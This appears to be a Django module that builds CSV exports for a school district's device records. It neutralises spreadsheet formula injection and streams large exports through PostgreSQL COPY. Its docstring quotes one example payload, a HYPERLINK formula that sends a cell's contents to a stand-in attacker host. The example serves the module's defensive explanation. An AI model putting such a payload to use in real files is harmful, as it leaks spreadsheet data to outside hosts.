"""CSV exports that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before reading a formula) is a formula to Excel, LibreOffice
and Google Sheets: a device note of ``=HYPERLINK("http://evil.example/?"&A1)`` would run
on the district office's computer. OWASP's advice is to prefix such a cell with an
apostrophe, which spreadsheets show as text. Every cell of ``csv_response`` goes through
``neutralise``; numbers (not strings) cannot carry a formula and ``-3`` should stay a
number, so they are written plainly (schools/numbers.py: ``12.91``, never the
``12.9100000000000`` of a SQLite aggregate).

Dates stay ISO 8601 (2026-08-15) in every CSV, so a spreadsheet sorts and reads them
whatever its locale; a date and time is written in the district's zone, to the minute
("2026-08-15 15:30"), never in UTC with an offset. Lines end with a bare line feed (every
spreadsheet reads it, and it is what PostgreSQL's COPY writes).

Large exports (``queryset_csv_response``) on PostgreSQL are written by the database itself:
``COPY (SELECT …) TO STDOUT WITH (FORMAT csv)``, with ``neutralise`` restated in SQL
(``sql_cell``) and the bytes streamed as they arrive. On SQLite the same columns go through
``csv_response``. A test holds the two paths to the same bytes (tests/schools/test_copy_export.py).
"""

from __future__ import annotations

import contextlib
import csv
import json
import queue
import threading
from collections.abc import Iterable, Iterator
from datetime import datetime
from decimal import Decimal
from typing import NamedTuple

from django.db import connections
from django.db.models import F, QuerySet
from django.http import StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header

from .numbers import CSV_PLACES, plain
from .scoping import captured_scope, current_request
from .signals import csv_downloaded

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def neutralise(value) -> str:
    """The cell's text, with a leading apostrophe when a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        # ISO 8601, which every spreadsheet sorts, in the district's zone, to the minute.
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.replace(tzinfo=None).isoformat(sep=" ", timespec="minutes")
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return plain(value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() hands back the line (csv.writer needs a file)."""

    def write(self, value: str) -> str:
        return value


class _Writer:
    """``csv.writer`` lines ending in a line feed, quoted as PostgreSQL's COPY quotes.

    With a CR LF terminator, csv quotes a cell holding a comma, a quote, a CR or a LF: exactly
    the cells COPY quotes. Only the terminator itself is then swapped for a line feed.
    """

    def __init__(self):
        self._writer = csv.writer(_Echo(), lineterminator="\r\n")

    def writerow(self, row) -> str:
        return self._writer.writerow(row)[:-2] + "\n"


def _audit_export(filename: str) -> None:
    """Every export a person downloads is announced for the audit log (``audit.signals``
    records it with the user and district of the current request); a file written outside
    a request (a command) is not a download."""
    if current_request() is None:
        return
    csv_downloaded.send(sender=None, filename=filename)


class CsvTable(NamedTuple):
    """A CSV download as a selector prepares it (``rows`` may be lazy); a view streams it
    with ``csv_response(*table)``."""

    filename: str
    header: list
    rows: Iterable[Iterable]


def csv_response(
    filename: str, header: Iterable, rows: Iterable[Iterable]
) -> StreamingHttpResponse:
    """Stream ``header`` and ``rows`` as a CSV download, every cell neutralised.

    ``rows`` may be a lazy queryset or generator: it is consumed while the response is
    sent, which happens after the view (and ScopeMiddleware's scope) has returned. The
    scope active when this function is called is therefore captured here and re-activated
    while the rows are read, so a scoped queryset is still filtered to what the user may
    see instead of failing (or, outside the scope, leaking).
    """
    _audit_export(filename)
    writer = _Writer()
    in_scope = captured_scope()
    zone = timezone.get_current_timezone()  # the district's, like the page's
    header = [neutralise(cell) for cell in header]

    def lines():
        # The BOM tells Excel the file is UTF-8; without it "Niño" opens as "NiÃ±o".
        yield BOM + writer.writerow(header)
        with in_scope(), timezone.override(zone):
            for row in rows:
                yield writer.writerow([neutralise(cell) for cell in row])

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


# --- exports written by PostgreSQL ------------------------------------------------------


class CsvColumn(NamedTuple):
    """One column of a queryset export: its header and the field path (or expression) on
    the queryset's model whose value fills it."""

    header: str
    value: object


_TEXT = {"CharField", "TextField", "SlugField", "EmailField", "URLField"}
_NUMBER = {
    "IntegerField",
    "BigIntegerField",
    "SmallIntegerField",
    "PositiveIntegerField",
    "PositiveBigIntegerField",
    "PositiveSmallIntegerField",
    "AutoField",
    "BigAutoField",
    "DecimalField",
}
# FORMULA_PREFIXES as the code points ascii() answers for a cell's first character (0 for
# an empty cell): integer comparisons, the cheapest test PostgreSQL can make per cell.
_PREFIX_CODES = ", ".join(str(ord(p)) for p in FORMULA_PREFIXES)


def sql_cell(column: str, internal_type: str, zone: str) -> str:
    """``neutralise`` in SQL, for a column of a Django field type: the same text, with an
    empty cell as NULL (COPY writes NULL as nothing and an empty string as ``""``)."""
    if internal_type in _TEXT:
        return (
            f"CASE WHEN ascii({column}) IN ({_PREFIX_CODES}) THEN chr(39) || {column} "
            f"ELSE NULLIF({column}, '') END"
        )
    if internal_type in _NUMBER:
        # schools.numbers.plain: half up (away from zero) to two places, no trailing zeros.
        return f"trim_scale(round({column}::numeric, {CSV_PLACES}))::text"
    if internal_type == "DateField":
        return f"to_char({column}, 'YYYY-MM-DD')"
    if internal_type == "DateTimeField":
        zone_literal = "'" + zone.replace("'", "''") + "'"
        return f"to_char({column} AT TIME ZONE {zone_literal}, 'YYYY-MM-DD HH24:MI')"
    if internal_type == "BooleanField":
        return f"CASE WHEN {column} THEN 'True' WHEN NOT {column} THEN 'False' END"
    raise TypeError(f"no CSV rule for a {internal_type} column")


def column_values(queryset: QuerySet, columns: list[CsvColumn]) -> QuerySet:
    """``queryset`` selecting exactly the columns' values, in their order."""
    names = [f"csv_{i}" for i in range(len(columns))]
    values = {
        name: F(c.value) if isinstance(c.value, str) else c.value
        for name, c in zip(names, columns, strict=True)
    }
    return queryset.annotate(**values).values_list(*names)


def copy_statement(queryset: QuerySet, columns: list[CsvColumn], *, neutralised=True) -> str:
    """The ``COPY (SELECT …) TO STDOUT`` writing ``columns`` of ``queryset`` as CSV rows,
    its parameters bound by the driver (``mogrify``), cells neutralised unless told not to
    (the benchmark's bare COPY of the same query)."""
    values = column_values(queryset, columns)
    connection = connections[values.db]
    sql, params = values.query.sql_with_params()
    names = [f"c{i}" for i in range(len(columns))]
    if neutralised:
        zone = timezone.get_current_timezone_name()
        annotations = values.query.annotations
        cells = [
            sql_cell(f"q.{name}", annotations[f"csv_{i}"].output_field.get_internal_type(), zone)
            for i, name in enumerate(names)
        ]
    else:
        cells = [f"q.{name}" for name in names]
    select = f"SELECT {', '.join(cells)} FROM ({sql}) AS q({', '.join(names)})"  # noqa: S608
    with connection.cursor() as cursor:
        bound = cursor.mogrify(select, params).decode()
    return f"COPY ({bound}) TO STDOUT WITH (FORMAT csv)"


class _Chunks:
    """A file for psycopg2's ``copy_expert``: gathers the rows COPY hands over one by one
    into chunks of about 64 KB and passes them to the reader through a queue; once the
    reader has gone, it drops what still arrives."""

    SIZE = 64 * 1024

    def __init__(self, out: queue.Queue, stop: threading.Event):
        self.out, self.stop = out, stop
        self.parts: list[bytes] = []
        self.size = 0

    def write(self, data) -> int:
        # Never raise here: psycopg2 would leave the connection in the middle of the COPY.
        if not self.stop.is_set():
            self.parts.append(data)
            self.size += len(data)
            if self.size >= self.SIZE:
                self.flush()
        return len(data)

    def flush(self) -> None:
        if self.parts and not self.stop.is_set():
            self.out.put(b"".join(self.parts))
        self.parts, self.size = [], 0


_DONE = object()
# For the COPY's transaction only. Without a LIMIT the planner minimises the total time, and
# for a district-wide export that is a sort of every row before the first one leaves (5 s
# at a million devices); with sorts discouraged it reads the index that has the list's
# order (the default sort's: district, asset tag) and the first rows leave at once, for
# the same total. A sort no index gives still happens. JIT compiling costs more than it
# saves on a plain scan.
COPY_SETTINGS = "SET LOCAL jit = off"
# Sorts are discouraged only for an export the planner expects to be large: a school's 600
# devices are sorted in a millisecond, and forbidding that sort made PostgreSQL walk the
# whole district's index in order, throwing away 99.9 % of it (1 s for 587 rows at a
# million devices). Below this many estimated rows the planner is left to itself.
STREAM_FROM_INDEX_ROWS = 50_000
_COPY_PREFIX, _COPY_SUFFIX = "COPY (", ") TO STDOUT WITH (FORMAT csv)"


def _estimated_rows(cursor, statement: str) -> float:
    """The planner's estimate of the rows ``statement`` (a COPY of a SELECT) writes."""
    if not (statement.startswith(_COPY_PREFIX) and statement.endswith(_COPY_SUFFIX)):
        return 0
    select = statement[len(_COPY_PREFIX) : -len(_COPY_SUFFIX)]
    cursor.execute("EXPLAIN (FORMAT JSON) " + select)
    plan = cursor.fetchone()[0]
    if isinstance(plan, str):
        plan = json.loads(plan)
    return plan[0]["Plan"]["Plan Rows"]


def copy_chunks(statement: str, using: str = "default") -> Iterator[bytes]:
    """The bytes of a ``COPY … TO STDOUT``, as they arrive.

    psycopg2's ``copy_expert`` pushes rows into a file until the COPY ends, so it runs in a
    thread of its own on this connection and hands chunks over a small queue, which the
    generator reads as the response is sent. Closed early (a cancelled download), it cancels
    the statement and waits for the thread, so the connection is left idle and usable.
    """
    connection = connections[using]
    connection.ensure_connection()
    raw = connection.connection
    chunks: queue.Queue = queue.Queue(maxsize=16)
    stop = threading.Event()
    copying = threading.Event()

    def run():
        sink = _Chunks(chunks, stop)
        own = raw.autocommit  # outside a transaction (a streamed response): one of its own
        try:
            with raw.cursor() as cursor:
                if own:
                    cursor.execute("BEGIN READ ONLY")
                try:
                    cursor.execute(COPY_SETTINGS)
                    if _estimated_rows(cursor, statement) >= STREAM_FROM_INDEX_ROWS:
                        cursor.execute("SET LOCAL enable_sort = off")
                    copying.set()
                    cursor.copy_expert(statement, sink)
                finally:
                    copying.clear()
                    if own:
                        cursor.execute("ROLLBACK")  # read only: ends the settings, nothing else
            sink.flush()
            chunks.put(_DONE)
        except BaseException as exc:  # noqa: BLE001 - handed to the reader, which raises it
            chunks.put(exc)

    thread = threading.Thread(target=run, name="csv-copy", daemon=True)
    thread.start()
    try:
        while True:
            item = chunks.get()
            if item is _DONE:
                return
            if isinstance(item, BaseException):
                raise item
            yield item
    finally:
        if thread.is_alive():
            stop.set()
            if copying.is_set():
                raw.cancel()
            while thread.is_alive():
                with contextlib.suppress(queue.Empty):
                    chunks.get(timeout=0.1)
        thread.join()


def queryset_csv_response(
    filename: str, columns: list[CsvColumn], queryset: QuerySet
) -> StreamingHttpResponse:
    """Stream ``columns`` of ``queryset`` (scoped, filtered and ordered as its page is) as a
    CSV download. On PostgreSQL the database writes the rows (``COPY``, cells neutralised
    in SQL); elsewhere each row goes through ``csv_response``. Both give the same bytes."""
    header = [c.header for c in columns]
    if connections[queryset.db].vendor != "postgresql":
        rows = column_values(queryset, columns).iterator(chunk_size=2000)
        return csv_response(filename, header, rows)
    _audit_export(filename)
    statement = copy_statement(queryset, columns)
    using = queryset.db  # the replica's, for a view that reads from one (schools/replica.py)
    first = (BOM + _Writer().writerow([neutralise(cell) for cell in header])).encode()

    def body():
        yield first
        yield from copy_chunks(statement, using)

    response = StreamingHttpResponse(body(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response
